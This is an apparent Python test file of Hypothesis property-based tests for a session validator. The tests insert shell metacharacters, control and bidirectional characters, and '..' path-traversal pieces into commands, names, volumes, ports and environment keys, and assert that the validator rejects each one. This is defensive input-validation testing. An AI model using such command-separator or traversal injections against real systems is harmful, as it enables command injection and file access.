        "session 'astro-prod': env: environment larger than 128 KiB in all (146 KiB)"
    )


def test_resolve_volume_and_dir(tmp_path: Path) -> None:
    assert v.resolve_volume("./d:/d:ro", tmp_path) == f"{tmp_path}/d:/d:ro"
    assert v.resolve_volume("/abs:/d", tmp_path) == "/abs:/d"
    assert v.resolve_volume("named:/d", tmp_path) == "named:/d"
    assert v.resolve_dir("a/./b", tmp_path) == str(tmp_path / "a" / "b")


# =========================================================================== property-based

_CONTROL = st.sampled_from(["\x00", "\n", "\r", "\x1b", "\x7f", "\u2028", "\u2029", "\u202e",
                            "\u200b", "\ufeff"])
_SHELL = st.sampled_from([";", "&", "&&", "||", "|", "$(", "`", ">", "<", ">>", "2>&1"])
_ANY_TEXT = st.text(max_size=40)


def _with_inserted(base: st.SearchStrategy[str], bad: st.SearchStrategy[str]):
    """``base`` text with one ``bad`` piece inserted at a random position."""

    @st.composite
    def build(draw: st.DrawFn) -> str:
        text = draw(base)
        piece = draw(bad)
        at = draw(st.integers(0, len(text)))
        return text[:at] + piece + text[at:]

    return build()


@FAST
@given(_with_inserted(_ANY_TEXT, st.one_of(_CONTROL, _SHELL)))
def test_property_command_with_forbidden_never_passes(text: str) -> None:
    with pytest.raises(vol.Invalid):
        v.command(text)
    with pytest.raises(vol.Invalid):
        v.command(["echo", text])


_NAME_OK = st.from_regex(r"[A-Za-z][A-Za-z0-9-]{0,63}", fullmatch=True)
_NAME_BAD_CHAR = st.characters(
    blacklist_characters=string.ascii_letters + string.digits + "-", codec="utf-8"
)


@FAST
@given(_with_inserted(_NAME_OK, _NAME_BAD_CHAR).map(lambda s: s[:64]))
def test_property_name_with_forbidden_never_passes(name: str) -> None:
    if all(c in string.ascii_letters + string.digits + "-" for c in name):
        return  # the cut at 64 removed the bad character
    with pytest.raises(vol.Invalid):
        v.session_name(name)


@FAST
@given(_NAME_OK)
def test_property_valid_names_pass_and_round_trip(name: str) -> None:
    assert v.session_name(name) == name
    assert v.check("name", name, session=name) == name
    assert overrides.apply(SessionSpec(name=name), OpsConfig(), {}).name == name


_PATH_PART = st.text(alphabet=string.ascii_letters + string.digits + "_-", min_size=1, max_size=8)
_VOLUME_OK = st.builds(
    lambda h, c, ro: f"/{h}:/{c}" + (":ro" if ro else ""), _PATH_PART, _PATH_PART, st.booleans()
)
_VOLUME_BAD = st.one_of(
    _CONTROL, st.just("\t"), st.just(".."), st.just("/.."), st.just("../")
)


@FAST
@given(_VOLUME_OK)
def test_property_valid_volumes_pass(text: str) -> None:
    assert v.volume(text) == text


@FAST
@given(_with_inserted(_VOLUME_OK, _VOLUME_BAD))
def test_property_volume_with_forbidden_never_passes(text: str) -> None:
    with pytest.raises(vol.Invalid):
        v.volume(text)
    with pytest.raises(vol.Invalid):
        v.volumes(["/ok:/ok", text])


_PORT_CHARS = set("0123456789:.[]/abcdefABCDEFtcpu")
_PORT_OK = st.builds(
    lambda h, c, p: f"{h}:{c}{p}",
    st.integers(1, 65535),
    st.integers(1, 65535),
    st.sampled_from(["", "/tcp", "/udp"]),
)
_PORT_BAD_CHAR = st.characters(blacklist_characters="".join(_PORT_CHARS), codec="utf-8")


@FAST
@given(_PORT_OK)
def test_property_valid_ports_pass(text: str) -> None:
    assert v.port(text) == text


@FAST
@given(_with_inserted(st.one_of(_PORT_OK, st.text(max_size=20)), _PORT_BAD_CHAR))
def test_property_port_with_forbidden_never_passes(text: str) -> None:
    with pytest.raises(vol.Invalid):
        v.port(text)
    with pytest.raises(vol.Invalid):
        v.ports([text])


@FAST
@given(st.integers().filter(lambda n: not 1 <= n <= 65535))
def test_property_port_out_of_range_never_passes(number: int) -> None:
    with pytest.raises(vol.Invalid):
        v.port(number)


_ENV_KEY_OK = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,30}", fullmatch=True).filter(
    lambda k: k not in v.FORBIDDEN_ENV_KEYS and not k.startswith("DYLD_")
)
_ENV_KEY_BAD_CHAR = st.characters(
    blacklist_characters=string.ascii_letters + string.digits + "_", codec="utf-8"
)


@FAST
@given(_with_inserted(_ENV_KEY_OK, _ENV_KEY_BAD_CHAR), st.text(max_size=10))
def test_property_env_key_with_forbidden_never_passes(key: str, value: str) -> None:
    with pytest.raises(vol.Invalid):
        v.env({key: value.replace("\x00", "")})
    with pytest.raises(vol.Invalid):
        v.env_key(key)


@FAST
@given(_ENV_KEY_OK, _with_inserted(st.text(max_size=30), st.just("\x00")))
def test_property_env_value_with_nul_never_passes(key: str, value: str) -> None:
    with pytest.raises(vol.Invalid):
        v.env({key: value})
    with pytest.raises(vol.Invalid):
        v.env([f"{key}={value}"])


@FAST
@given(st.dictionaries(_ENV_KEY_OK, st.text(max_size=20).map(lambda s: s.replace("\x00", "")),
                       max_size=20))
def test_property_valid_env_round_trips(mapping: dict[str, str]) -> None:
    assert v.env(mapping) == mapping


_SAFE_WORD = st.text(
    alphabet=string.ascii_letters + string.digits + "-_./=:,@%+", min_size=1, max_size=12
)
_FORBIDDEN_IN_COMMAND = set(";&|`<>$") | {"\x00", "\n", "\r"}
_QUOTABLE_WORD = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cc", "Cf", "Cs", "Zl", "Zp"),
        blacklist_characters="".join(_FORBIDDEN_IN_COMMAND),
    ),
    max_size=12,
)


def test_empty_program_name_refused() -> None:
    for value in ("''", ["", "x"], '"" arg'):
        with pytest.raises(vol.Invalid, match="empty program name"):
            v.command(value)


@FAST
@given(st.lists(_SAFE_WORD, min_size=1, max_size=12))
def test_property_safe_words_round_trip(words: list[str]) -> None:
    assert v.command(" ".join(words)) == tuple(words)


@FAST
@given(st.lists(_QUOTABLE_WORD, min_size=1, max_size=8))
def test_property_quoted_words_round_trip(words: list[str]) -> None:
    assume(words[0] != "")  # an empty program name is refused (tested below)
    text = shlex.join(words)
    assert v.command(text) == tuple(words)
    assert v.command(words) == tuple(words)
